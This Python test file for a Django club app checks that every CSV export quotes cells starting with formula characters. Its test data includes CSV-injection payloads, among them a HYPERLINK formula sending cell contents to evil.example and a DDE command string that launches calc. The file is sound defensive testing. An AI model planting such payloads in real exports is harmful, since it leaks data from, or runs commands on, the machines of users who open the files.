"""No CSV file the app hands out lets a spreadsheet run a formula: every CSV export (the list
is checked against the URLconf, so a new export cannot be missed), with members named like
formulas, has no cell starting with = + - @, a tab or a carriage return, except numbers."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from club.csv_export import safe_cell
from club.models import Session
from tests.factories import MemberFactory, UserFactory
from tests.scoring.standings_helpers import draw, play, session_on, win

User = get_user_model()
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ann", "Ann"),
        ("", ""),
        ("'quoted", "'quoted"),
        (-12, -12),  # a number stays a number
        (-1.5, -1.5),
        ("-12", "-12"),  # text that is only a number cannot be a formula
        ("-0.25", "-0.25"),
        ("+7", "+7"),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def csv_pattern_names(resolver=None, namespace="") -> set[str]:
    """Every URL pattern whose address ends in .csv (or named so), as "namespace:name"."""
    names = set()
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            names |= csv_pattern_names(pattern, inner)
        elif isinstance(pattern, URLPattern) and (
            str(pattern.pattern).endswith(".csv") or "csv" in (pattern.name or "")
        ):
            names.add(f"{namespace}{pattern.name}")
    return names


def export_urls(session: Session) -> dict[str, list[str]]:
    """Each CSV export with every variant it offers."""
    return {
        "scoring:leaderboard_csv": [reverse("scoring:leaderboard_csv")],
        "scoring:hands_csv": [reverse("scoring:hands_csv")],
        "scoring:evening_csv": [reverse("scoring:evening_csv", args=[session.pk])],
        "scoring:attendance_csv": [
            reverse("scoring:attendance_csv") + "?by=members",
            reverse("scoring:attendance_csv") + "?by=sessions",
        ],
        "club:member_import_template": [reverse("club:member_import_template")],
        "my_data_csv": [reverse("my_data_csv")],  # a member's own: asked as one (below)
    }


def cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.fixture
def hostile_evening(club):
    """Tonight, six members named like formulas at two tables, with wins, a draw and
    negative payments (which must stay numbers)."""
    members = [MemberFactory(club=club, name=name, table_name=name[:40]) for name in HOSTILE]
    members[0].user = UserFactory(username="hostile")
    members[0].save()
    members += [
        MemberFactory(club=club, name="Ann Lee", table_name="Ann"),
        MemberFactory(club=club),
    ]
    session = session_on(club, timezone.localdate(), members=members)
    play(session, 1, members[:4], [win(0, 10, [30, -10, -10, -10]), draw(4)])
    play(session, 2, members[4:], [win(1, 8, [-8, 24, -8, -8], discarder=0)])
    return session


def test_every_csv_export_is_safe_in_a_spreadsheet(coordinator_client, hostile_evening):
    client = coordinator_client
    session = hostile_evening
    urls = export_urls(session)
    assert set(urls) == csv_pattern_names(), "a CSV export is missing from this test"
    seen_hostile = 0
    for addresses in urls.values():
        for url in addresses:
            asking = client
            if url == reverse("my_data_csv"):  # a member's own data: asked as that member
                asking = Client()
                asking.force_login(User.objects.get(username="hostile"))
            response = asking.get(url)
            assert response.status_code == 200, url
            found = cells(response)
            assert found, url
            dangerous = [
                cell for cell in found if cell.startswith(FORMULA_STARTS) and not is_number(cell)
            ]
            assert dangerous == [], f"{url}: {dangerous[:5]}"
            seen_hostile += sum(
                cell.startswith(("'=", "'+", "'-", "'@", "'\t", "'\r")) for cell in found
            )
    # The names really went out (quoted): the files were not safe merely by being empty.
    assert seen_hostile > len(HOSTILE)
    assert "-10" in cells(client.get(reverse("scoring:hands_csv")))  # a payment, unquoted


def test_every_csv_writer_is_the_safe_one():
    """A CSV written any other way would skip safe_cell()."""
    root = Path(__file__).resolve().parent.parent
    plain = [
        str(path.relative_to(root))
        for app in ("club", "games", "scoring", "front", "config")
        for path in (root / app).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
        and path.name != "csv_export.py"
    ]
    assert plain == []
